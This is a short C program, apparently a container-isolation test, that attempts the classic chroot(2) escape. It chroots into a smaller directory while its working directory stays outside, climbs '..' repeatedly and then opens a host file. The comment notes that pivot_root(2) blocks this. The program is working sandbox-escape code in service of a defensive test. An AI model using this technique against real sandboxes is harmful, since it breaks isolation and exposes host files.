/*
 * chroots FILE - the classic way out of chroot(2), which says so itself: with
 * a working directory outside of a new, smaller root, ".." leads on to the real
 * one. After pivot_root(2) there is nothing above. FILE is one of the host.
 */
#include "attack.h"

#include <sys/stat.h>

int main(int argc, char **argv)
{
    if (argc != 2)
        return 2;
    mkdir("/tmp/smaller", 0755);
    if (!attack_answer("chroot", chroot("/tmp/smaller")))
        return 1;
    for (int i = 0; i < 100; i++)
        if (chdir("..") < 0)
            return !attack_answer("..", -1);
    attack_answer("host", open(argv[1] + 1, O_RDONLY));
    return 0;
}
